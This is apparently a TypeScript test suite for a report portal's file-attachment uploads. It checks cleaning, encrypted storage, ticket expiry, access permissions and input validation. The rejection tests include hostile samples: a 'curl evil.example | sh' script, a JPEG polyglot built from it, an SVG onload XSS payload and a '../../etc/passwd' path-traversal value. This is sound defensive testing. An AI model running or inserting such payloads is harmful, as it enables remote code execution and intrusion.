import { randomBytes, randomUUID } from 'node:crypto'
import { crc32, deflateSync } from 'node:zlib'
import { SERVER_ERRORS } from '@apron/contract/errors/catalogue'
import { appServer } from '@apron/server/test/servers/app-server'
import type { PortalClient } from '@apron/server/test/clients/portal-client'
import { jobRounds } from '@apron/server/test/run-jobs'
import { describeOnStores } from '@apron/server/test/stores/stores'
import { serverOn } from '@apron/server/test/servers/test-server'
import { PDFDocument } from '@cantoo/pdf-lib'
import { sql } from 'kysely'
import { expect, it } from 'vitest'
import { readReportFilePart, reportFiles } from '../../../contract/reports/desk-file.calls.ts'
import { REPORT_ERRORS } from '../../../contract/reports/report.errors.ts'
import * as calls from '../../../contract/reports/report-file.calls.ts'
import type { FileTicket } from '../../../contract/reports/report-file.entities.ts'
import { FILE_PART_BYTES } from '../../../contract/reports/report-file.values.ts'
import { buildMp4, TINY_JPEG, VIDEO_SAMPLE, withExif } from '../../cleaning/sample-files.fixture.ts'
import { plugin } from '../../plugin.ts'
import type { ReportTables } from '../../voluntary-reports/report.tables.ts'
import { destroyFiles } from '../../voluntary-reports/files/report-files.ts'
import { requestTicket, listFiles, openFile, openTicket, sendFile, sendPart } from './report-file-steps.ts'
import { deskRows, tryFileReport, fileReport, HE_HUIMIN, newCode, findNewReport, officeIdentity } from './report-steps.ts'

const LI_ZE = '100305'
const CHEN_QIMING = '100001'
const SU_MINGYUAN = '100005'
const MARKER = 'zqmarkerzq'
const JPEG = withExif(TINY_JPEG, MARKER)
const AN_HOUR = { minutes: 60 }

const chunk = (type: string, content: Buffer) => {
  const named = Buffer.concat([Buffer.from(type), content])
  const ends = Buffer.alloc(8)
  ends.writeUInt32BE(content.length)
  ends.writeUInt32BE(crc32(named), 4)
  return Buffer.concat([ends.subarray(0, 4), named, ends.subarray(4)])
}

/** Builds a grey PNG that announces this size but contains only a few lines. */
function png(edge: number, text = ''): Buffer {
  const size = Buffer.alloc(13)
  size.writeUInt32BE(edge)
  size.writeUInt32BE(edge, 4)
  size[8] = 8
  const lines = deflateSync(Buffer.alloc((edge + 1) * Math.min(edge, 8)))
  return Buffer.concat([
    Buffer.from('\u0089PNG\r\n\u001a\n', 'latin1'),
    chunk('IHDR', size),
    chunk('tEXt', Buffer.from(`Author\u0000${text}`)),
    chunk('IDAT', lines),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

async function pdf(author: string): Promise<Buffer> {
  const document = await PDFDocument.create()
  document.setAuthor(author)
  document.addPage().drawText('rag in the cowl')
  return Buffer.from(await document.save())
}

describeOnStores('attachments of a voluntary report', store => {
  const server = appServer(store, plugin)
  const db = () => store.database.kysely.withTables<ReportTables>()

  /** Opens a new form as a visitor, in an hour without other requests. */
  async function openForm() {
    server.clock.forward(AN_HOUR)
    const visitor = server.client()
    return { visitor, ticket: await openTicket(visitor) }
  }

  async function sendReport(visitor: PortalClient, ticket: FileTicket) {
    const handler = await server.as(HE_HUIMIN)
    const before = await deskRows(handler)
    await fileReport(visitor, { ticket })
    return { handler, id: await findNewReport(handler, before) }
  }

  const countFiles = async () => {
    const { rows } = await sql<{ count: number }>`
      select count(*)::int as count from safety_quality_report_file`.execute(store.database.kysely)
    return rows[0]?.count ?? 0
  }

  it('[SQ-40, SQ-42] passes them from the form to the desk, cleaned, for each kind', async () => {
    const { visitor, ticket } = await openForm()
    const files = [JPEG, png(8, MARKER), await pdf(MARKER), buildMp4(MARKER)]
    for (const bytes of files) {
      // oxlint-disable-next-line no-await-in-loop -- one after the other, as people add them
      const { envelope } = await sendFile(visitor, { ticket, bytes })
      expect(envelope.data.kept?.size).toBe(65_536)
    }
    const { handler, id } = await sendReport(visitor, ticket)
    const shown = await listFiles(handler, id)
    expect(shown.map(({ kind }) => kind).toSorted()).toEqual(['jpeg', 'mp4', 'pdf', 'png'])
    expect(Object.keys(shown[0] ?? {}).toSorted()).toEqual(['id', 'kind', 'parts', 'size'])
    const identity = await officeIdentity(handler)
    const contents = new Map<string, Buffer>()
    for (const each of shown) {
      // oxlint-disable-next-line no-await-in-loop -- one after the other, as people open them
      contents.set(each.kind, await openFile(handler, identity, each))
    }
    expect(contents.get('jpeg')?.subarray(0, 3).toString('hex')).toBe('ffd8ff')
    expect(contents.get('png')?.includes('IHDR')).toBe(true)
    expect((await PDFDocument.load(contents.get('pdf') ?? '')).getPageCount()).toBe(1)
    expect(contents.get('mp4')?.includes(VIDEO_SAMPLE)).toBe(true)
    for (const content of contents.values()) expect(content.includes(MARKER)).toBe(false)
  })

  it('[SQ-42] stores them as ciphertext, before and after filing, without time, name or link to the ticket', async () => {
    const { visitor, ticket } = await openForm()
    const big = Buffer.concat([buildMp4(MARKER), Buffer.alloc(8)])
    big.writeUInt32BE(FILE_PART_BYTES, big.length - 8)
    big.write('free', big.length - 4)
    const bytes = Buffer.concat([big, Buffer.alloc(FILE_PART_BYTES - 8, MARKER)])
    const own = randomUUID()
    await sendPart(visitor, 0, { ticket, bytes, file: own })
    const readStored = async () => {
      const { rows } = await sql<{ row: string; content: Buffer }>`
        select row_to_json(f)::text as row, p.content
        from safety_quality_report_file f join safety_quality_report_file_part p on p.file_id = f.id`.execute(
        store.database.kysely,
      )
      const columns = rows.map(({ row }) => row).join('\n')
      const contents = Buffer.concat(rows.map(({ content }) => Buffer.from(content)))
      const isPlain = [MARKER, 'ftyp', 'moov', ticket.form].some(word => contents.includes(word))
      return { columns, contents, isPlain }
    }
    const unfinished = await readStored()
    expect(unfinished.columns).toContain(own)
    expect(unfinished.isPlain).toBe(false)
    expect((await sendPart(visitor, 1, { ticket, bytes, file: own })).envelope.data.kept?.kind).toBe('mp4')
    await sendReport(visitor, ticket)
    const finished = await readStored()
    expect(finished.columns).not.toContain(own)
    expect(finished.columns).not.toMatch(/\d\d:\d\d/)
    expect(finished.isPlain).toBe(false)
    expect(finished.contents.includes('age-encryption.org')).toBe(true)
  })

  it('[SQ-41] binds them to one report: a used ticket accepts no file and no second report', async () => {
    const { visitor, ticket } = await openForm()
    const bytes = JPEG
    const removed = randomUUID()
    await sendFile(visitor, { ticket, bytes })
    await sendFile(visitor, { ticket, bytes, file: removed })
    // An incomplete file remains.
    await sendPart(visitor, 0, { ticket, bytes: Buffer.concat([JPEG, Buffer.alloc(FILE_PART_BYTES)]) })
    const { envelope } = await visitor.call(calls.removeReportFile, { body: { ticket, file: removed } })
    expect(envelope.data.removed).toBe(true)
    const { handler, id } = await sendReport(visitor, ticket)
    expect(await listFiles(handler, id)).toHaveLength(1)
    expect((await sendFile(visitor, { ticket, bytes })).envelope.code).toBe(REPORT_ERRORS.ticketOver.code)
    const second = await tryFileReport(visitor, { ticket })
    expect(second.envelope.msg).toBe(REPORT_ERRORS.ticketOver.zh)
    expect(await listFiles(handler, id)).toHaveLength(1)
  })

  it('[SQ-41] keeps them when the same report is sent twice', async () => {
    const { visitor, ticket } = await openForm()
    await sendFile(visitor, { ticket, bytes: JPEG })
    const handler = await server.as(HE_HUIMIN)
    const before = await deskRows(handler)
    const code = newCode()
    const sent = [await tryFileReport(visitor, { ticket, code }), await tryFileReport(visitor, { ticket, code })]
    expect(sent[0]?.envelope.data).toEqual(sent[1]?.envelope.data)
    expect(await listFiles(handler, await findNewReport(handler, before))).toHaveLength(1)
  })

  it('[SQ-41] rejects changes with the ticket of another form or a forged one', async () => {
    const { visitor, ticket } = await openForm()
    const foreign = randomUUID()
    await sendFile(visitor, { ticket, bytes: JPEG, file: foreign })
    const other = await openTicket(visitor)
    const body = { ticket: other, file: foreign }
    expect((await visitor.call(calls.removeReportFile, { body })).envelope.data.removed).toBe(false)
    const same = await sendFile(visitor, { ticket: other, bytes: JPEG, file: foreign })
    expect(same.envelope.code).toBe(REPORT_ERRORS.ticketOver.code)
    for (const forged of [
      { ...ticket, until: ticket.until + 60 },
      { ...ticket, form: randomBytes(32).toString('base64url') },
      { ...other, form: ticket.form },
    ]) {
      // oxlint-disable-next-line no-await-in-loop -- one after the other
      const { envelope } = await sendFile(visitor, { ticket: forged, bytes: JPEG })
      expect(envelope.code).toBe(REPORT_ERRORS.ticketOver.code)
    }
    const { handler, id } = await sendReport(visitor, other)
    expect(await listFiles(handler, id)).toEqual([])
  })

  it('[SQ-41] destroys them after the 60 minutes of their ticket if no report is filed', async () => {
    const runJobs = jobRounds(store, server.clock, plugin)
    await runJobs()
    server.clock.forward({ minutes: 90 })
    await runJobs()
    const before = await countFiles()
    const { visitor, ticket } = await openForm()
    await sendFile(visitor, { ticket, bytes: JPEG })
    server.clock.forward({ minutes: 59 })
    await runJobs()
    expect(await countFiles()).toBe(before + 1)
    server.clock.forward({ minutes: 1 })
    expect((await sendFile(visitor, { ticket, bytes: JPEG })).envelope.code).toBe(
      REPORT_ERRORS.ticketOver.code,
    )
    expect((await tryFileReport(visitor, { ticket })).envelope.code).toBe(REPORT_ERRORS.ticketOver.code)
    server.clock.forward({ minutes: 15 })
    await runJobs()
    expect(await countFiles()).toBe(before)
    const { rows } = await sql<{ count: number }>`
      select count(*)::int as count from safety_quality_file_ticket`.execute(store.database.kysely)
    expect(rows[0]?.count).toBe(0)
  })

  it('[SQ-40] limits them to five, and rejects other kinds, a script named as a photo, oversized and damaged files', async () => {
    const { visitor, ticket } = await openForm()
    const sendAndGetCode = async (bytes: Buffer, size?: number) => {
      const { envelope } = await sendFile(visitor, { ticket, bytes, ...(size === undefined ? {} : { size }) })
      return envelope.success ? 'taken' : envelope.code
    }
    const script = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')
    expect(await sendAndGetCode(script)).toBe(REPORT_ERRORS.fileKindWrong.code)
    expect(await sendAndGetCode(Buffer.from('<svg onload=alert(1)>'))).toBe(REPORT_ERRORS.fileKindWrong.code)
    const start = Buffer.concat([JPEG, Buffer.alloc(FILE_PART_BYTES)])
    expect(await sendAndGetCode(start, 10 * 1024 * 1024 + 1)).toBe(REPORT_ERRORS.fileTooLarge.code)
    expect(await sendAndGetCode(png(60_000))).toBe(SERVER_ERRORS.imageTooLarge.code)
    const polyglot = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), script])
    expect(await sendAndGetCode(polyglot)).toBe(SERVER_ERRORS.fileContentWrong.code)
    expect(await sendAndGetCode(Buffer.from('%PDF-1.7 <script>'))).toBe(REPORT_ERRORS.fileUnreadable.code)
    const results: unknown[] = []
    // oxlint-disable-next-line no-await-in-loop -- one after the other
    for (let count = 0; count < 50; count += 1) results.push(await sendAndGetCode(JPEG))
    expect(results.slice(0, 5)).toEqual(['taken', 'taken', 'taken', 'taken', 'taken'])
    expect(new Set(results.slice(5))).toEqual(new Set([REPORT_ERRORS.filesTooMany.code]))
  })

  it('[SQ-40] rejects uploads without a ticket, without proof of work, with invalid parts, and 10 MB of text', async () => {
    const { visitor, ticket } = await openForm()
    const body = { ticket, file: randomUUID(), size: 4, part: 0, content: 'AAAA' }
    const post = async (change: object) => {
      const path = `/portal-csn${calls.sendFilePart.path}`
      const response = await fetch(server.origin + path, {
        method: 'POST',
        headers: { projectCode: 'AQ', 'content-type': 'application/json' },
        body: JSON.stringify({ ...body, ...change }),
      })
      return response.status
    }
    expect(await post({ ticket: undefined })).toBe(400)
    expect(await post({ ticket: { ...ticket, form: 'short' } })).toBe(400)
    expect(await post({ content: 'AAA' })).toBe(400)
    expect(await post({ content: '<b>' })).toBe(400)
    expect(await post({ part: 1_000 })).toBe(400)
    expect(await post({ size: 0 })).toBe(400)
    expect(await post({ size: 60 * 1024 * 1024 })).toBe(400)
    expect(await post({ file: '../../etc/passwd' })).toBe(400)
    expect(await post({ content: 'A'.repeat(10 * 1024 * 1024) })).toBe(413)
    const gap = {
      ticket,
      bytes: Buffer.concat([JPEG, Buffer.alloc(2 * FILE_PART_BYTES)]),
      file: randomUUID(),
    }
    expect((await sendPart(visitor, 1, gap)).envelope.code).toBe(REPORT_ERRORS.ticketOver.code)
    await sendPart(visitor, 0, gap)
    expect((await sendPart(visitor, 2, gap)).status).toBe(400)
    expect((await sendPart(visitor, 0, gap)).envelope.data.kept).toBeNull()
    const form = randomBytes(32).toString('base64url')
    const work = { salt: 'x', until: 1, mark: 'x', nonce: 1 }
    const withoutWork = await visitor.call(calls.openFileTicket, { body: { form, work } })
    expect(withoutWork.envelope.code).toBe(REPORT_ERRORS.workWrong.code)
  })

  it('[SQ-41] allows ten tickets an hour per network, counted under a daily key', async () => {
    const { visitor } = await openForm()
    const fetchStatuses: number[] = []
    // oxlint-disable-next-line no-await-in-loop -- one after the other
    for (let count = 0; count < 10; count += 1) fetchStatuses.push((await requestTicket(visitor)).status)
    expect(fetchStatuses).toEqual([...Array.from({ length: 9 }, () => 200), 429])
  })

  it('[SQ-42] lists and returns them only with the permission to view reports, and not as portal files', async () => {
    const { visitor, ticket } = await openForm()
    await sendFile(visitor, { ticket, bytes: JPEG })
    const { handler, id } = await sendReport(visitor, ticket)
    const [attachment] = await listFiles(handler, id)
    const fileId = attachment?.id ?? ''
    const fetchStatuses = async (person: PortalClient) => [
      (await person.call(reportFiles, { query: { id } })).status,
      (await person.call(readReportFilePart, { query: { id: fileId, part: 0 } })).status,
    ]
    expect(await fetchStatuses(server.client())).toEqual([401, 401])
    expect(await fetchStatuses(await server.as(LI_ZE))).toEqual([403, 403])
    expect(await fetchStatuses(await server.as(CHEN_QIMING))).toEqual([403, 403])
    expect(await fetchStatuses(await server.as(SU_MINGYUAN))).toEqual([200, 200])
    const missing = await handler.call(readReportFilePart, { query: { id: fileId, part: 90 } })
    expect(missing.status).toBe(404)
    const headers = { projectCode: 'AQ', authorization: handler.token ?? '' }
    for (const way of ['download', 'preview']) {
      // oxlint-disable-next-line no-await-in-loop -- one after the other
      const response = await fetch(`${server.origin}/portal-csn/api/file/${way}?url=/file/${fileId}`, {
        headers,
      })
      expect([403, 404]).toContain(response.status)
    }
  })

  it('[SQ-43] destroys those of one report without touching those of others', async () => {
    const first = await openForm()
    await sendFile(first.visitor, { ticket: first.ticket, bytes: JPEG })
    const one = await sendReport(first.visitor, first.ticket)
    const second = await openForm()
    await sendFile(second.visitor, { ticket: second.ticket, bytes: JPEG })
    const other = await sendReport(second.visitor, second.ticket)
    await db()
      .transaction()
      .execute(async trx => destroyFiles(trx, one.id))
    expect(await listFiles(other.handler, one.id)).toEqual([])
    expect(await listFiles(other.handler, other.id)).toHaveLength(1)
  })
})

describeOnStores('attachments at the storage limit', store => {
  const server = serverOn(store, { plugins: [plugin], settings: { reportFilesBytes: JPEG.length + 10 } })

  it('[SQ-41] rejects them, while reports without them are accepted', async () => {
    const visitor = server.client()
    const ticket = await openTicket(visitor)
    await sendFile(visitor, { ticket, bytes: JPEG })
    const full = await sendFile(visitor, { ticket, bytes: JPEG })
    expect(full.envelope.msg).toBe(REPORT_ERRORS.noRoomForFiles.zh)
    expect((await tryFileReport(visitor, { ticket })).envelope.success).toBe(true)
  })
})
